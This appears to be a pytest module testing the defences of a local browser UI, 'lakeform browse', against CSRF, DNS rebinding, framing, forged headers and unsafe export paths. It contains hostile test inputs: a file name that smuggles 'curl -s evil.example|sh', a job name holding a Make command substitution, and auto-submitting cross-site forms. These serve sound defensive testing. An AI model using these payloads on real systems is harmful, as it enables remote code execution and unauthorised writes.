"""Attacks on `lakeform browse`, refused: cross-origin writes from a page the user visits (forms,
fetch), DNS rebinding, framing, forged headers and content types, a missing or wrong token,
export targets that configure or run things, and shell metacharacters in the adoption commands.
Each through the real browser or plain HTTP, next to the honest use that must still work."""

from __future__ import annotations

import base64
import http.client
import json
import re
import shlex
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from cli.adopt import adoption_steps
from cli.browse import BrowseError, check_bind
from cli.browse.app import Config
from devtools.workspace.testing import RunningWorkspace, running_workspace
from tests.browse.conftest import Running

JOB = "nightly $(shell touch pwned)"
MAKEFILE = "all:\n\techo built\n"
GIT_CONFIG = "[core]\n\tbare = false\n"
ODD_IMPORT = "adopt/x;curl -s evil.example|sh;#.json"


@dataclass
class Small:
    ws: RunningWorkspace
    api: Any
    job: int
    conftest_job: int
    """A job whose notebook is called `conftest`: with sources it would land as conftest.py."""


@pytest.fixture(scope="module")
def small() -> Iterator[Small]:
    with running_workspace() as ws:
        api = ws.client().api_client.do
        api("POST", "/api/2.0/workspace/mkdirs", body={"path": "/Shared/etl"})
        for name in ("report", "conftest"):
            api(
                "POST",
                "/api/2.0/workspace/import",
                body={
                    "path": f"/Shared/etl/{name}",
                    "format": "SOURCE",
                    "language": "PYTHON",
                    "content": base64.b64encode(b"# Databricks notebook source\n").decode(),
                },
            )

        def job(name: str, notebook: str) -> int:
            task = {"task_key": "t", "notebook_task": {"notebook_path": notebook}}
            body = {"name": name, "tasks": [task]}
            return int(api("POST", "/api/2.2/jobs/create", body=body)["job_id"])

        yield Small(ws, api, job(JOB, "/Shared/etl/report"), job("tests", "/Shared/etl/conftest"))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project with files an attacker would like to overwrite."""
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    (root / "Makefile").write_text(MAKEFILE)
    (root / ".git/config").write_text(GIT_CONFIG)
    return root


@pytest.fixture
def browse(small: Small, project: Path, start_browse: Any) -> Running:
    running = start_browse(
        Config(host=small.ws.url, connect=lambda: small.api, root=project, stack="local")
    )
    running.wait_listed()
    return running


def untouched(project: Path) -> None:
    assert (project / "Makefile").read_text() == MAKEFILE
    assert (project / ".git/config").read_text() == GIT_CONFIG
    assert not (project / "adopt").exists()
    assert not (project / "resources").exists()


# --- plain HTTP ---------------------------------------------------------------------------------


@dataclass
class Answer:
    status: int
    text: str
    headers: Any


def send(
    url: str, method: str, path: str, body: str | bytes = b"", headers: dict[str, str] | None = None
) -> Answer:
    """One request with exactly these headers (http.client adds Host unless given one)."""
    parts = urllib.parse.urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        answer = conn.getresponse()
        return Answer(answer.status, answer.read().decode(), answer.headers)
    finally:
        conn.close()


def token_of(url: str) -> str:
    page = send(url, "GET", "/selection").text
    found = re.search(r'<meta name="lakeform-token" content="([^"]+)">', page)
    assert found is not None, page
    return found.group(1)


def honest(url: str, kind: str, token: str) -> dict[str, str]:
    """The headers the page's own requests carry."""
    if kind == "json":
        return {"Origin": url, "Content-Type": "application/json", "X-Lakeform-Token": token}
    return {"Origin": url, "Content-Type": "application/x-www-form-urlencoded"}


def select_body(ident: int) -> str:
    return json.dumps({"items": [{"kind": "jobs", "id": str(ident)}]})


@pytest.mark.parametrize("path", ["/", "/selection", "/api/status", "/static/browse.js"])
@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "localhost:{port}", ""])
def test_a_request_for_another_host_is_refused_get_included(
    browse: Running, path: str, host: str
) -> None:
    here = urllib.parse.urlsplit(browse.url).netloc
    port = here.rsplit(":", 1)[1]
    forged = host.format(port=port)
    answer = send(browse.url, "GET", path, headers={"Host": forged})
    assert answer.status == 403
    assert answer.text == (
        f"lakeform browse refused this request: Host {forged!r} is not this page's address "
        f"{here}; open http://{here}/ (requests for another name are refused: DNS rebinding)\n"
    )
    assert send(browse.url, "GET", path).status == 200


def test_the_page_may_not_be_framed(browse: Running) -> None:
    for path in ("/", "/selection"):
        headers = send(browse.url, "GET", path).headers
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["Content-Security-Policy"] == "frame-ancestors 'none'"


def test_cross_origin_writes_are_refused_over_http(
    small: Small, browse: Running, project: Path
) -> None:
    url = browse.url
    token = token_of(url)
    other = re.sub(r":\d+$", ":1", url)
    form_overwrite = f"overwrite=1&token={token}"
    targets = urllib.parse.urlencode(
        {"rows": "Makefile", "import_file": ".git/config", "token": token}
    )
    only = f"only the page at {url}/ may change anything"
    cases = [
        # (path, headers, body, status, reason); the token is right unless the case is about it
        ("/select", {"Origin": "http://evil.example", "Content-Type": "text/plain",
                     "X-Lakeform-Token": token}, select_body(small.job), 403,
         f"cross-origin request from Origin 'http://evil.example'; {only}"),
        ("/export", {"Origin": "http://evil.example",
                     "Content-Type": "application/x-www-form-urlencoded"}, form_overwrite, 403,
         f"cross-origin request from Origin 'http://evil.example'; {only}"),
        ("/targets", {"Origin": "null", "Content-Type": "application/x-www-form-urlencoded"},
         targets, 403, f"cross-origin request from Origin 'null'; {only}"),
        ("/targets", {"Origin": other, "Content-Type": "application/x-www-form-urlencoded"},
         targets, 403, f"cross-origin request from Origin {other!r}; {only}"),
        ("/export", {"Sec-Fetch-Site": "cross-site",
                     "Content-Type": "application/x-www-form-urlencoded"}, form_overwrite, 403,
         f"cross-site request (Sec-Fetch-Site: cross-site); {only}"),
        ("/export", {"Origin": url, "Sec-Fetch-Site": "same-site",
                     "Content-Type": "application/x-www-form-urlencoded"}, form_overwrite, 403,
         f"cross-site request (Sec-Fetch-Site: same-site); {only}"),
        ("/export", {"Content-Type": "application/x-www-form-urlencoded"}, form_overwrite, 403,
         f"no Origin or Sec-Fetch-Site header; {only}"),
        # The right origin, the wrong content type.
        ("/select", {**honest(url, "json", token), "Content-Type": "text/plain"},
         select_body(small.job), 415, "/select takes application/json, not text/plain"),
        ("/select", {**honest(url, "json", token),
                     "Content-Type": "application/x-www-form-urlencoded"},
         select_body(small.job), 415,
         "/select takes application/json, not application/x-www-form-urlencoded"),
        ("/select", {"Origin": url, "X-Lakeform-Token": token}, select_body(small.job), 415,
         "/select takes application/json, not no content type"),
        ("/export", {"Origin": url, "Content-Type": "multipart/form-data; boundary=x"},
         form_overwrite, 415,
         "/export takes application/x-www-form-urlencoded, not multipart/form-data"),
        ("/targets", {"Origin": url, "Content-Type": "application/json"}, targets, 415,
         "/targets takes application/x-www-form-urlencoded, not application/json"),
        # The right origin and content type, no token or a wrong one.
        ("/select", {"Origin": url, "Content-Type": "application/json"}, select_body(small.job),
         403, "missing page token in the X-Lakeform-Token header; reload the page and try again"),
        ("/select", {**honest(url, "json", "x" * len(token))}, select_body(small.job), 403,
         "wrong page token in the X-Lakeform-Token header; reload the page and try again"),
        ("/export", honest(url, "form", token), "overwrite=1", 403,
         "missing page token in the token field; reload the page and try again"),
        ("/targets", honest(url, "form", token), targets.replace(token, token[::-1]), 403,
         "wrong page token in the token field; reload the page and try again"),
        ("/selection/clear", {"Sec-Fetch-Site": "same-origin",
                              "Content-Type": "application/x-www-form-urlencoded"},
         "token=", 403, "missing page token in the token field; reload the page and try again"),
        # Anything else than GET and HEAD is a change: a preflight too.
        ("/select", {"Origin": "http://evil.example",
                     "Access-Control-Request-Method": "POST"}, b"", 403,
         f"cross-origin request from Origin 'http://evil.example'; {only}"),
        ("/anything", honest(url, "form", token), f"token={token}", 405,
         "DELETE /anything: nothing to change there"),
    ]  # fmt: skip
    for path, headers, body, status, reason in cases:
        method = (
            "OPTIONS" if "Access-Control-Request-Method" in headers
            else "DELETE" if path == "/anything" else "POST"
        )  # fmt: skip
        answer = send(url, method, path, body, headers)
        assert (answer.status, answer.text) == (
            status,
            f"lakeform browse refused this request: {reason}\n",
        ), (path, headers)
    status = browse.status()
    assert (status["selected"], status["export"]) == (0, None)
    assert browse.browser.state.state.targets.rows == "resources/adopted/adopted.yaml"
    untouched(project)


def test_honest_requests_with_the_token_pass(small: Small, browse: Running) -> None:
    url = browse.url
    token = token_of(url)
    answer = send(url, "POST", "/select", select_body(small.job), honest(url, "json", token))
    assert (answer.status, json.loads(answer.text)) == (200, {"selected": 1})
    # A browser that sends Sec-Fetch-Site and no Origin.
    headers = {**honest(url, "json", token), "Sec-Fetch-Site": "same-origin"}
    del headers["Origin"]
    body = json.dumps({"items": [{"kind": "jobs", "id": str(small.job), "selected": False}]})
    assert json.loads(send(url, "POST", "/select", body, headers).text) == {"selected": 0}
    body = urllib.parse.urlencode({"rows": "resources/x.yml", "token": token})
    answer = send(url, "POST", "/targets", body, honest(url, "form", token))
    assert (answer.status, answer.headers["Location"]) == (303, "/selection")
    assert browse.browser.state.state.targets.rows == "resources/x.yml"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("[1]", 'the body must be {"items": [{"kind": ..., "id": ...}, ...]}'),
        ('{"items": "jobs:1"}', 'the body must be {"items": [{"kind": ..., "id": ...}, ...]}'),
        ('{"items": [1]}', "items[0]: not an object"),
        (
            '{"items": [{"kind": "secrets", "id": "1"}]}',
            "items[0].kind: 'secrets'; known: jobs, pipelines, quality_monitors, "
            "data_quality_monitors",
        ),
        ('{"items": [{"kind": "jobs", "id": null}]}', "items[0].id: a non-empty string or number"),
        ("{not json", "the body is not JSON"),
    ],
)
def test_select_refuses_a_body_of_the_wrong_shape(browse: Running, body: str, reason: str) -> None:
    url = browse.url
    answer = send(url, "POST", "/select", body, honest(url, "json", token_of(url)))
    assert (answer.status, answer.text) == (400, f"/select: {reason}\n")
    assert browse.status()["selected"] == 0


RUNS = "configures or runs things (make, Pulumi, Python tools, a shell); give a file of its own"
HIDDEN = "a hidden file or folder (.git, .github, .lakeform, ...), which configure tools"


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("rows", "Makefile", f"rows file 'Makefile': Makefile {RUNS}"),
        ("rows", "sub/GNUmakefile", f"rows file 'sub/GNUmakefile': GNUmakefile {RUNS}"),
        ("rows", "Pulumi.prod.yaml", f"rows file 'Pulumi.prod.yaml': Pulumi.prod.yaml {RUNS}"),
        ("rows", ".git/config", f"rows file '.git/config': in .git, {HIDDEN}"),
        (
            "rows",
            "resources/../.git/hooks/pre-commit.yaml",
            f"rows file 'resources/../.git/hooks/pre-commit.yaml': in .git, {HIDDEN}",
        ),
        (
            "rows",
            "linked/config.yaml",  # a symbolic link to .git
            f"rows file 'linked/config.yaml': in .git, {HIDDEN}",
        ),
        (
            "rows",
            ".github/workflows/ci.yml",
            f"rows file '.github/workflows/ci.yml': in .github, {HIDDEN}",
        ),
        (
            "rows",
            "scripts/ensure.yaml",
            "rows file 'scripts/ensure.yaml': under scripts/, the project's scripts; "
            "give a path outside it",
        ),
        (
            "rows",
            "resources/adopted.json",
            "rows file 'resources/adopted.json': must end in .yaml or .yml",
        ),
        ("rows", "../elsewhere.yaml", "rows file '../elsewhere.yaml': outside the project"),
        ("rows", "/etc/cron.d/x.yaml", "rows file '/etc/cron.d/x.yaml': outside the project"),
        ("rows", "a\nb.yaml", "rows file 'a\\nb.yaml': empty or holds control characters"),
        ("import_file", "adopt/import.yaml", "import file 'adopt/import.yaml': must end in .json"),
        ("import_file", "package.json", f"import file 'package.json': package.json {RUNS}"),
        ("sources", ".lakeform/bin", f"sources folder '.lakeform/bin': in .lakeform, {HIDDEN}"),
        ("sources", ".", "sources folder '.': the project folder itself; give a path inside it"),
    ],
)
def test_export_targets_that_configure_or_run_things_are_refused(
    browse: Running, project: Path, field: str, value: str, problem: str
) -> None:
    (project / "linked").symlink_to(project / ".git")
    url = browse.url
    token = token_of(url)
    body = urllib.parse.urlencode({field: value, "token": token})
    answer = send(url, "POST", "/targets", body, honest(url, "form", token))
    assert answer.status == 400
    message = re.search(r'<p class="error" id="error">(.*?)</p>', answer.text, re.S)
    assert message is not None
    assert message.group(1).startswith(f"Not saved: {problem}".replace("'", "&#39;"))
    assert browse.browser.state.state.targets.rows == "resources/adopted/adopted.yaml"
    untouched(project)


def test_an_export_to_a_refused_target_kept_in_the_state_writes_nothing(
    small: Small, project: Path, start_browse: Any
) -> None:
    """A state file from before the rules (or edited by hand) still cannot aim the export."""
    state = project / ".lakeform/browse"
    config = Config(host=small.ws.url, connect=lambda: small.api, root=project, stack="local")
    first = start_browse(config)
    first.wait_listed()
    state_file = first.browser.state.path
    first.stop()
    state.mkdir(parents=True, exist_ok=True)
    ref = f"jobs:{small.job}"
    selected = {ref: {"kind": "jobs", "id": str(small.job), "name": JOB}}
    targets = {"rows": "Makefile", "import_file": ".git/config", "sources": "src"}
    state_file.write_text(json.dumps({"selection": selected, "targets": targets}))
    browse = start_browse(config)
    url, token = browse.url, token_of(browse.url)
    body = f"overwrite=1&token={token}"
    assert send(url, "POST", "/export", body, honest(url, "form", token)).status == 303
    browse.browser.exporter.wait(30)
    run = browse.browser.state.state.export
    assert (run.status, run.error) == (
        "failed",
        f"Nothing written: rows file 'Makefile': Makefile {RUNS}; "
        f"import file '.git/config': in .git, {HIDDEN}; give a path outside them",
    )
    untouched(project)


def test_a_source_file_that_would_run_things_is_not_written(
    small: Small, browse: Running, project: Path
) -> None:
    """A workspace notebook called `conftest` would land as conftest.py, which pytest runs."""
    url = browse.url
    token = token_of(url)
    change = {"kind": "jobs", "id": str(small.conftest_job), "sources": True}
    body = json.dumps({"items": [change]})
    assert send(url, "POST", "/select", body, honest(url, "json", token)).status == 200
    assert send(url, "POST", "/export", f"token={token}", honest(url, "form", token)).status == 303
    browse.browser.exporter.wait(30)
    run = browse.browser.state.state.export
    assert (run.status, run.error) == (
        "failed",
        f"Nothing written: source file 'src/adopted/Shared/etl/conftest.py': conftest.py {RUNS}",
    )
    assert not (project / "src").exists()
    untouched(project)


def test_adoption_commands_quote_every_path_for_the_shell() -> None:
    steps = adoption_steps("resources/my rows.yaml", ODD_IMPORT, "dev", in_place=True)
    assert steps == [
        "1. lakeform validate   # 'resources/my rows.yaml' is read with the other rows",
        "2. adopt the resources (creates the Lakeform components, imports the resources):",
        "   pulumi import --stack dev --file 'adopt/x;curl -s evil.example|sh;#.json' "
        "--generate-code=false",
        "3. pulumi preview --diff --stack dev   # expect updates only, no create or replace",
    ]
    assert shlex.split(steps[2])[5] == ODD_IMPORT
    to_stdout = adoption_steps(None, None)[0]
    assert to_stdout == "1. put the rows under resources/ and run: lakeform validate"
    assert "--stack 'a b'" in adoption_steps("r.yaml", "i.json", "a b")[2]


@pytest.mark.parametrize("bind", ["0.0.0.0", "192.168.1.2", "localhost", "::1"])
def test_browse_listens_on_a_loopback_address_only(bind: str) -> None:
    with pytest.raises(BrowseError, match=rf"--bind {bind}: not an IPv4 loopback address"):
        check_bind(bind)
    check_bind("127.0.0.1")
    check_bind("127.0.0.2")


# --- the real browser ---------------------------------------------------------------------------

EVIL = "http://evil.example/"


def visit_evil(page: Any, html: str) -> None:
    """Open http://evil.example/ serving `html` (fulfilled in the browser: a real cross-site page
    as far as Chromium is concerned)."""
    page.route(
        f"{EVIL}**",
        lambda route: route.fulfill(status=200, content_type="text/html", body=html),
    )
    page.goto(EVIL)


def test_a_hostile_page_cannot_write_through_the_browser(
    small: Small, browse: Running, project: Path, page: Any
) -> None:
    url = browse.url
    leaked = token_of(url)  # even a leaked token does not make a cross-site request pass
    cross = f"cross-origin request from Origin 'http://evil.example'; only the page at {url}/"
    forms = {
        "/targets": f"""<input name="rows" value="Makefile"><input name="import_file"
            value=".git/config"><input name="token" value="{leaked}">""",
        "/export": f'<input name="overwrite" value="1"><input name="token" value="{leaked}">',
        # The classic JSON-by-form trick: text/plain whose body happens to parse as JSON.
        "/select": f"""<input name='{{"items": [{{"kind": "jobs", "id": "{small.job}", "x": "'
            value='"}}]}}'>""",
    }
    for path, fields in forms.items():
        enctype = "text/plain" if path == "/select" else "application/x-www-form-urlencoded"
        html = f"""<form method="post" action="{url}{path}" enctype="{enctype}">{fields}</form>
            <script>document.forms[0].submit()</script>"""
        with page.expect_response(f"{url}{path}") as answer:
            visit_evil(page, html)
        assert answer.value.status == 403
        assert (
            page.locator("body")
            .inner_text()
            .startswith(f"lakeform browse refused this request: {cross}")
        )

    # fetch: a simple text/plain request goes out (and is refused); a JSON one never passes
    # the preflight.
    visit_evil(page, "<p>hello</p>")
    with page.expect_response(f"{url}/select") as answer:
        page.evaluate(
            """([url, body]) => fetch(url + "/select", {method: "POST", mode: "no-cors",
                headers: {"Content-Type": "text/plain"}, body})""",
            [url, select_body(small.job)],
        )
    assert answer.value.status == 403
    said = page.evaluate(
        """([url, body, token]) => fetch(url + "/select", {method: "POST", body,
            headers: {"Content-Type": "application/json", "X-Lakeform-Token": token}})
            .then((r) => "answered " + r.status, (e) => String(e))""",
        [url, select_body(small.job), leaked],
    )
    assert said == "TypeError: Failed to fetch"

    status = browse.status()
    assert (status["selected"], status["export"]) == (0, None)
    assert browse.browser.state.state.targets.rows == "resources/adopted/adopted.yaml"
    untouched(project)


def test_dns_rebinding_and_framing_get_nothing(browse: Running, page: Any) -> None:
    # Chromium resolves rebind.example to 127.0.0.1 (CHROMIUM_ARGS): a rebound name.
    here = urllib.parse.urlsplit(browse.url).netloc
    port = here.rsplit(":", 1)[1]
    for path in ("/", "/api/status"):
        answer = page.goto(f"http://rebind.example:{port}{path}")
        assert answer.status == 403
        assert (
            page.locator("body")
            .inner_text()
            .startswith(
                f"lakeform browse refused this request: Host 'rebind.example:{port}' is not this "
                f"page's address {here}"
            )
        )

    visit_evil(page, f'<iframe src="{browse.url}/selection" width="800" height="600"></iframe>')
    page.wait_for_timeout(500)
    framed = page.frames[1]
    assert framed.url.startswith("chrome-error://")
    assert framed.locator("meta[name=lakeform-token]").count() == 0


def test_the_honest_page_flow_still_works(
    small: Small, browse: Running, project: Path, page: Any
) -> None:
    url = browse.url
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(url)
    page.locator(f"input.pick[data-id='{small.job}']").check()  # the page's fetch, with the token
    page.wait_for_function("document.getElementById('selected-count').textContent === '1'")
    assert browse.status()["selected"] == 1

    page.goto(f"{url}/selection")
    page.fill("input[name=rows]", "Makefile")
    page.click("form.targets button[type=submit]")
    assert (
        page.locator("#error")
        .inner_text()
        .startswith(f"Not saved: rows file 'Makefile': Makefile {RUNS}")
    )
    page.click("text=Back to the selection")
    page.fill("input[name=rows]", "resources/adopted/my rows.yaml")
    page.fill("input[name=import_file]", ODD_IMPORT)
    page.click("form.targets button[type=submit]")
    assert page.locator("input[name=import_file]").input_value() == ODD_IMPORT

    page.click("#export-button")
    page.wait_for_selector("#export[data-status=done]")
    lines = page.locator("#commands").inner_text().splitlines()
    assert lines[0] == (
        "1. lakeform validate   # 'resources/adopted/my rows.yaml' is read with the other rows"
    )
    assert shlex.split(lines[2]) == [
        "pulumi", "import", "--stack", "local", "--file", ODD_IMPORT, "--generate-code=false",
    ]  # fmt: skip
    assert "nightly" in (project / "resources/adopted/my rows.yaml").read_text()
    assert json.loads((project / ODD_IMPORT).read_text())["resources"]
    assert (project / "Makefile").read_text() == MAKEFILE

    page.click("#export button:text('Dismiss')")
    assert page.locator("#export").count() == 0
    page.click("text=Clear the selection")
    assert page.locator("#selected-count").inner_text() == "0"
    page.goto(url)
    page.locator("details.monitors-help summary").click()
    page.fill("input[name=tables]", "main.sales.orders")
    with page.expect_response(f"{url}/monitors") as answer:
        page.click("details.monitors-help button[type=submit]")
    assert answer.value.status == 303
    with page.expect_response(f"{url}/refresh") as answer:
        page.click("#refresh")
    assert answer.value.status == 303
    assert dialogs == []
